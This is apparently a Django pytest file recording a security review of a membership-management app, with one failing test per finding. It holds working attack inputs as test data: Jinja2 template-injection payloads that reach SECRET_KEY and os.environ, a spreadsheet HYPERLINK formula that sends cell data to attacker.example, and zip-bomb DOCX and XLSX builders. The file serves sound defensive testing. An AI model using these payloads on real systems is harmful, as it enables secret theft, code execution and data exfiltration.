"""The security reviewer's findings on issue 8 (documents, statistics, Excel, showcase): each test FAILS on the
code as reviewed and shows the problem; the fix turns it green. Scratch: the lead moves them to their apps."""

from __future__ import annotations

import datetime
import io
import zipfile

import docx
import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from bontot.documents.render import DOCX_TYPE
from bontot.documents.tests.factories import registered
from bontot.facts.models import QualityRating
from bontot.members import services as member_services
from bontot.spreadsheets.sheets import MEMBERS, RATINGS
from bontot.spreadsheets.tests.files import excel_file

pytestmark = pytest.mark.django_db

D = datetime.date


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _docx_bytes(*lines: str, core_title: str | None = None) -> bytes:
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    if core_title is not None:
        document.core_properties.title = core_title
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _upload_and_render(client, world, content: bytes) -> tuple[int, str]:
    """The office of DU uploads `content` as its registration template, then downloads DU's registration list
    in Word; return the upload's status and the whole text of the Word file (every XML part)."""
    registered(world)
    client.force_login(world.users["office"])
    upload = SimpleUploadedFile("mau.docx", content, content_type=DOCX_TYPE)
    status = client.post(
        reverse("documents:templates", args=[world.du.pk]), {"kind": "registration", "file": upload}
    ).status_code
    if status != 302:
        return status, ""
    response = client.get(reverse("documents:registration_docx", args=[world.du.pk]) + "?year=2024")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        text = "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())
    return status, text


# 1. CRITICAL. docxtpl renders the office's uploaded template with a plain (unsandboxed) jinja2.Environment:
#    attribute access on an allowed placeholder reaches Python internals, hence settings and os (remote code
#    execution by anyone holding the office role). The upload check only lists undeclared variable names.
SSTI_BODY = (
    "{{ (title.__class__.__mro__[1].__subclasses__() | selectattr('__name__', 'equalto', 'catch_warnings') "
    "| first)()._module.__builtins__['__import__']('django.conf').conf.settings.SECRET_KEY }}"
)


def test_an_uploaded_template_cannot_reach_python_internals_through_a_placeholder(client, world):
    status, text = _upload_and_render(client, world, _docx_bytes("{{ issuer }}", SSTI_BODY))
    assert django_settings.SECRET_KEY not in text, "the uploaded template printed SECRET_KEY into the document"
    assert status == 400  # the upload should be refused (sandbox: attribute access to dunder names)


# 2. CRITICAL (same root cause, and a hole in the upload check): docxtpl also renders the core properties
#    (title, subject, author, comments …) and footnotes, which `get_undeclared_template_variables` never reads, so
#    a template may use any Jinja global there (`cycler.__init__.__globals__.os`), unchecked.
def test_an_uploaded_template_cannot_run_code_from_its_core_properties(client, world):
    payload = "{{ cycler.__init__.__globals__.os.environ.get('DJANGO_SETTINGS_MODULE') }}"
    status, text = _upload_and_render(client, world, _docx_bytes("{{ issuer }}", core_title=payload))
    assert "config.settings" not in text, "the core properties ran os.environ"
    assert status == 400  # `cycler` is not a placeholder: refused by name like any other


# 3. MEDIUM (DoS by the office role). The template upload checks the compressed size only (5 MB); python-docx
#    inflates each part whole (zipfile.read) before lxml parses it. Measured: a 240 KB file whose document.xml
#    inflates to 200 MB costs 4.4 s and 470 MB of memory before lxml gives up; a 5 MB one inflates to ~5 GB.
#    (The spy refuses to read: the test stays cheap; the fix refuses on ZipInfo.file_size before any read.)
def _inflating(content: bytes, part: str, marker: bytes, padding: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == part:
                data = data.replace(marker, padding + marker)
            target.writestr(item.filename, data)
    return buffer.getvalue()


BIG = 200 * 1024 * 1024


def test_a_template_that_inflates_far_beyond_the_size_limit_is_refused_unread(client, world, monkeypatch):
    padding = b"<w:p><w:r><w:t>" + b" " * BIG + b"</w:t></w:r></w:p>"
    content = _inflating(_docx_bytes("{{ issuer }}"), "word/document.xml", b"</w:body>", padding)
    assert len(content) < 1024 * 1024
    import docxtpl  # type: ignore[import-untyped]

    opened = []

    def spy(self, *args, **kwargs):
        opened.append(1)
        raise RuntimeError("python-docx would inflate 200 MB here")

    monkeypatch.setattr(docxtpl.DocxTemplate, "__init__", spy)
    client.force_login(world.users["office"])
    upload = SimpleUploadedFile("mau.docx", content, content_type=DOCX_TYPE)
    response = client.post(reverse("documents:templates", args=[world.du.pk]), {"kind": "registration", "file": upload})
    assert response.status_code == 400
    assert not opened, "the 200 MB archive was handed to python-docx before any uncompressed-size check"


# 4. HIGH (integrity). The ratings sheet lets the office of a committee write the FINAL rating of its own
#    committee ("Mã tổ chức" = DU): `Scope.office_codes` is every organisation under the office's grant, the
#    committee itself included. On the grids (facts.access_ratings) an organisation's rating is written on its
#    parent's grid (rows: X's children), i.e. by the level above; DU's office has no grant on SUP.
def test_the_office_cannot_rate_its_own_committee_from_excel(client, world):
    client.force_login(world.users["office"])
    rows: list[list[object]] = [[2024, None, "DU", "Hoàn thành xuất sắc nhiệm vụ", "Có", None]]
    upload = SimpleUploadedFile("xl.xlsx", excel_file(RATINGS, rows), content_type="application/octet-stream")
    response = client.post(reverse("spreadsheets:upload", kwargs={"kind": "xep-loai"}), {"tep": upload})
    token = response.context.get("token")
    if token:
        client.post(reverse("spreadsheets:confirm", kwargs={"kind": "xep-loai"}), {"token": token})
    assert not QualityRating.objects.filter(organization=world.du).exists(), "DU's office rated DU itself (final)"
    assert response.context["checked"].errors, "no row error for the committee's own code"


# 5. MEDIUM (leak across the tree). After a ratings import, the confirmation shows the bundle's HTXSNV-cap
#    warnings; `over_cap_statuses(years)` computes them over EVERY grassroots organisation of the system, so the
#    office of DU2 reads another committee's name and its counts of HTXSNV / HTTNV.
def test_the_cap_warning_after_an_import_names_no_committee_outside_the_importer(client, world):
    for key in ("member_a", "secretary_a", "other_a"):  # DU: 3 final HTXSNV, no HTTNV → over the 20 % cap
        QualityRating.objects.create(year=2024, member=world.members[key], level="excellent", final=True)
    client.force_login(world.users["outsider"])  # the office of DU2
    rows: list[list[object]] = [[2024, "C-001", None, "Hoàn thành tốt nhiệm vụ", "Có", None]]
    upload = SimpleUploadedFile("xl.xlsx", excel_file(RATINGS, rows), content_type="application/octet-stream")
    response = client.post(reverse("spreadsheets:upload", kwargs={"kind": "xep-loai"}), {"tep": upload})
    assert response.context["checked"].errors == []
    done = client.post(
        reverse("spreadsheets:confirm", kwargs={"kind": "xep-loai"}), {"token": response.context["token"]}, follow=True
    )
    body = done.content.decode()
    assert "Đã nhập 1 dòng" in body
    assert "Đảng ủy xã Thử Nghiệm" not in body, "DU2's office is told DU's HTXSNV counts"


# 6. MEDIUM (DoS by any writer, a cell secretary included). The upload checks the compressed size only (5 MB):
#    openpyxl inflates and parses whatever the archive holds. Measured: a 311 KB .xlsx whose sheet1.xml holds a
#    300 MB inline string takes 6.5 s and ~970 MB of memory in `read_rows`; a 5 MB upload inflates ~1000×.
#    (The spy refuses to read: the test stays cheap; the fix refuses on ZipInfo.file_size before openpyxl.)
def test_an_xlsx_that_inflates_far_beyond_the_size_limit_is_refused_unread(client, world, monkeypatch):
    row = ["A-100", "Đỗ Thị Mai", D(1990, 9, 2), "Nữ", "A", "03/02/2015", "03/02/2016", "Không", None]
    padding = b'<row r="3"><c r="A3" t="inlineStr"><is><t>' + b" " * BIG + b"</t></is></c></row>"
    content = _inflating(excel_file(MEMBERS, [row]), "xl/worksheets/sheet1.xml", b"</sheetData>", padding)
    assert len(content) < 1024 * 1024
    from bontot.spreadsheets import upload as upload_module

    loaded = []

    def spy(*args, **kwargs):
        loaded.append(1)
        raise RuntimeError("openpyxl would inflate 200 MB here")

    monkeypatch.setattr(upload_module, "load_workbook", spy)
    client.force_login(world.users["secretary_a"])
    upload = SimpleUploadedFile("xl.xlsx", content, content_type="application/octet-stream")
    response = client.post(reverse("spreadsheets:upload", kwargs={"kind": "dang-vien"}), {"tep": upload})
    assert not loaded, "a 200 MB (uncompressed) workbook was handed to openpyxl"
    [error] = response.context["checked"].errors
    assert error.row == 0


# 7. MEDIUM (formula injection). "Xuất Excel" writes text as given: openpyxl turns a string starting with "="
#    into a formula, so a member's name typed by a secretary ("=HYPERLINK(…)") becomes a live formula in the
#    office's export. Text beginning with =, +, -, @ must stay text (prefix with ' or set the cell type).
def test_an_export_never_turns_a_name_into_a_formula(client, world):
    member = world.members["other_a"]  # MemberForm and the Excel import accept any text as a name
    member.full_name = '=HYPERLINK("http://attacker.example/?x="&B2,"Bấm để xem")'
    member.save(update_fields=["full_name"])
    client.force_login(world.users["office"])
    response = client.get(reverse("members:list") + "?xuat=xlsx")
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.worksheets[0]
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == [], f"cells written as formulas: {formulas}"


def test_the_statistics_export_never_turns_an_organisation_name_into_a_formula(client, world):
    from bontot.dashboards.tests.factories import seed_world

    seed_world(world)
    world.du.name = "=1+2"
    world.du.save(update_fields=["name"])
    client.force_login(world.users["office"])
    response = client.get(reverse("statistics:excel") + "?nam=2024")
    book = load_workbook(io.BytesIO(response.content))
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == [], f"cells written as formulas: {formulas}"


# 8. LOW-MEDIUM (leak). The showcase's readers include "a member whose cell is there" read from Member without
#    `left_on`: a member who left the party still reads the stories of their former cell and committee (every
#    other page ends their access on departure: core/tests/test_review_leaks.py).
def test_a_member_who_left_reads_no_story_of_their_former_committee(client, world):
    from bontot.showcase.tests.factories import published

    story = published(world)
    member_services.record_departure(
        world.members["member_a"], actor=world.users["office"], on=D(2024, 6, 1), reason="Xin ra khỏi Đảng"
    )
    client.force_login(world.users["member_a"])
    assert client.get(reverse("showcase:detail", args=[story.pk])).status_code == 404
    assert story.title not in client.get(reverse("showcase:list")).content.decode()


# 9. LOW (a check that cannot fail). The URL × persona matrix checks `absent` names only on text/html answers,
#    so every `absent=` of the document downloads (PDF, Word) and of the Excel downloads is never evaluated.
@pytest.mark.parametrize("name", ["documents:registration_pdf", "documents:registration_docx"])
def test_the_matrix_catches_a_sibling_name_leaked_into_a_download(client, world, monkeypatch, name):
    from bontot.core.tests import test_url_matrix
    from bontot.documents import views as document_views

    real = document_views.registration_context

    def leaky(*args, **kwargs):
        context = real(*args, **kwargs)
        context["paragraphs"] = [*context["paragraphs"], "Phạm Văn Bảo"]  # cell B's member, in NOT_A
        return context

    monkeypatch.setattr(document_views, "registration_context", leaky)
    with pytest.raises(AssertionError, match="Phạm Văn Bảo"):
        test_url_matrix.test_it_answers_each_persona(client, world, name, "secretary_a")


# 10. HIGH (privilege). The members sheet writes the bundle's `left_on` and `organization` as given, so a cell
#     secretary records a departure (office-only in the UI: members.views.member_departure, need=OFFICE) by typing
#     a date in "Ngày ra khỏi Đảng bộ", and reverses one (an expulsion included) by leaving it empty ("ô để trống
#     nghĩa là không có"). Neither goes through `record_departure` (memberships, the member role, the audit).
def _other_a_row(left_on: object) -> list[object]:
    return ["A-003", "Trần Thị Ánh", D(1980, 5, 17), "Nam", "A", D(2010, 3, 2), D(2011, 3, 2), "Không", left_on]


def _secretary_imports(client, world, row: list[object]):
    client.force_login(world.users["secretary_a"])
    upload = SimpleUploadedFile("xl.xlsx", excel_file(MEMBERS, [row]), content_type="application/octet-stream")
    response = client.post(reverse("spreadsheets:upload", kwargs={"kind": "dang-vien"}), {"tep": upload})
    token = response.context.get("token")
    if token:
        client.post(reverse("spreadsheets:confirm", kwargs={"kind": "dang-vien"}), {"token": token})
    return response


def test_a_cell_secretary_cannot_record_a_departure_from_excel(client, world):
    response = _secretary_imports(client, world, _other_a_row(D(2024, 6, 1)))
    world.members["other_a"].refresh_from_db()
    assert world.members["other_a"].left_on is None, "the secretary recorded a departure (office only in the UI)"
    assert response.context["checked"].errors


def test_a_departure_is_not_undone_by_an_empty_cell(client, world):
    member_services.record_departure(
        world.members["other_a"], actor=world.users["office"], on=D(2024, 6, 1), reason="Khai trừ"
    )
    _secretary_imports(client, world, _other_a_row(None))
    world.members["other_a"].refresh_from_db()
    assert world.members["other_a"].left_on == D(2024, 6, 1), "an empty cell cleared the departure"


# 11. LOW-MEDIUM (scope). `Scope.of` takes `visible_members(roles=OFFICE)`, which always adds the actor's own
#     member record: an office clerk whose own party card is in a cell outside their office's subtree writes the
#     FINAL rating of themselves (the grid would refuse: no grant covers that cell).
def test_an_office_clerk_cannot_finalise_their_own_rating_outside_their_subtree(client, world):
    from bontot.members.models import Member

    own = Member.objects.create(
        card_no="A-009", full_name="Ngô Văn Ngoài", birth_date=D(1980, 1, 1), gender="male", organization=world.a,
        admitted_on=D(2010, 1, 1), official_on=D(2011, 1, 1), user=world.users["outsider"],
    )  # fmt: skip
    client.force_login(world.users["outsider"])  # the office of DU2; their own card is in DU's cell A
    rows: list[list[object]] = [[2024, "A-009", None, "Hoàn thành xuất sắc nhiệm vụ", "Có", None]]
    upload = SimpleUploadedFile("xl.xlsx", excel_file(RATINGS, rows), content_type="application/octet-stream")
    response = client.post(reverse("spreadsheets:upload", kwargs={"kind": "xep-loai"}), {"tep": upload})
    token = response.context.get("token")
    if token:
        client.post(reverse("spreadsheets:confirm", kwargs={"kind": "xep-loai"}), {"token": token})
    assert not QualityRating.objects.filter(member=own).exists(), "DU2's office rated itself in DU's cell"
